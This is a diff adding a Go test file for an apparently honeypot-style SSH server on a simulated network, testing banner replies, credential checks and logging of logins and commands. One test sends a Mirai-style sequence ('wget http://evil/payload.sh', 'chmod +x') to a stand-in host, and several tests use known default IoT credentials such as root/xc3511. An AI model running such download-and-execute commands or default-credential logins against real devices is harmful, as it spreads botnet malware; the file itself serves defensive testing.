@@ -1,0 +1,143 @@
+package ssh
+
+import (
+	"context"
+	"strings"
+	"testing"
+	"time"
+
+	"openhire/internal/netsim"
+)
+
+func startServer(t *testing.T, cfg Config) (*netsim.ServiceConn, <-chan Event) {
+	t.Helper()
+	events := make(chan Event, 1)
+	prev := cfg.OnEvent
+	cfg.OnEvent = func(ev Event) {
+		if prev != nil {
+			prev(ev)
+		}
+		events <- ev
+	}
+	client, server := netsim.NewServiceConnPair(
+		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.90"), Port: 44000},
+		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.5"), Port: 22},
+		time.Now(),
+	)
+	srv := NewServer(cfg)
+	go func() {
+		defer server.Close()
+		srv.Serve(context.Background(), server)
+	}()
+	t.Cleanup(func() { client.Close() })
+	return client, events
+}
+
+func TestGrabBanner(t *testing.T) {
+	client, _ := startServer(t, Config{Version: "SSH-2.0-OpenSSH_5.1p1 Debian-5"})
+	banner, err := GrabBanner(client, time.Second)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if banner != "SSH-2.0-OpenSSH_5.1p1 Debian-5" {
+		t.Fatalf("banner %q", banner)
+	}
+}
+
+func TestLoginAcceptAll(t *testing.T) {
+	client, events := startServer(t, Config{AcceptAll: true})
+	if _, err := GrabBanner(client, time.Second); err != nil {
+		t.Fatal(err)
+	}
+	ok, err := Login(client, "SSH-2.0-Go", "root", "xc3511", time.Second)
+	if err != nil || !ok {
+		t.Fatalf("Login = %v, %v", ok, err)
+	}
+	client.Close()
+	select {
+	case ev := <-events:
+		if !ev.Success || len(ev.Attempts) != 1 || ev.Attempts[0] != (Credential{"root", "xc3511"}) {
+			t.Fatalf("event %+v", ev)
+		}
+		if ev.ClientVersion != "SSH-2.0-Go" {
+			t.Fatalf("client version %q", ev.ClientVersion)
+		}
+	case <-time.After(2 * time.Second):
+		t.Fatal("no event")
+	}
+}
+
+func TestLoginRejectedAttemptsLogged(t *testing.T) {
+	client, events := startServer(t, Config{MaxAttempts: 3})
+	if _, err := GrabBanner(client, time.Second); err != nil {
+		t.Fatal(err)
+	}
+	ok, err := Login(client, "SSH-2.0-bot", "admin", "admin", time.Second)
+	if err != nil || ok {
+		t.Fatalf("Login = %v, %v", ok, err)
+	}
+	for _, cred := range []Credential{{"root", "root"}, {"user", "user"}} {
+		if ok, _ := Attempt(client, cred.Username, cred.Password, time.Second); ok {
+			t.Fatal("attempt accepted")
+		}
+	}
+	select {
+	case ev := <-events:
+		if ev.Success || len(ev.Attempts) != 3 {
+			t.Fatalf("event %+v", ev)
+		}
+	case <-time.After(2 * time.Second):
+		t.Fatal("server did not close after max attempts")
+	}
+}
+
+func TestCredentialMap(t *testing.T) {
+	client, _ := startServer(t, Config{Credentials: map[string]string{"pi": "raspberry"}})
+	if _, err := GrabBanner(client, time.Second); err != nil {
+		t.Fatal(err)
+	}
+	if ok, _ := Login(client, "SSH-2.0-x", "pi", "wrong", time.Second); ok {
+		t.Fatal("wrong password accepted")
+	}
+	if ok, _ := Attempt(client, "pi", "raspberry", time.Second); !ok {
+		t.Fatal("correct password rejected")
+	}
+}
+
+func TestCommandsLogged(t *testing.T) {
+	client, events := startServer(t, Config{AcceptAll: true})
+	if _, err := GrabBanner(client, time.Second); err != nil {
+		t.Fatal(err)
+	}
+	if ok, _ := Login(client, "SSH-2.0-mirai", "admin", "admin", time.Second); !ok {
+		t.Fatal("login rejected")
+	}
+	for _, cmd := range []string{"wget http://evil/payload.sh", "chmod +x payload.sh", "exit"} {
+		if _, err := client.Write([]byte(cmd + "\n")); err != nil {
+			t.Fatal(err)
+		}
+	}
+	select {
+	case ev := <-events:
+		if len(ev.Commands) != 3 || !strings.HasPrefix(ev.Commands[0], "wget ") {
+			t.Fatalf("commands %v", ev.Commands)
+		}
+	case <-time.After(2 * time.Second):
+		t.Fatal("no event")
+	}
+}
+
+func TestNonSSHClientGetsBannerOnly(t *testing.T) {
+	client, events := startServer(t, Config{})
+	if _, err := client.Write([]byte("GET / HTTP/1.1\r\n")); err != nil {
+		t.Fatal(err)
+	}
+	select {
+	case ev := <-events:
+		if ev.Success || len(ev.Attempts) != 0 {
+			t.Fatalf("event %+v", ev)
+		}
+	case <-time.After(2 * time.Second):
+		t.Fatal("session did not end")
+	}
+}
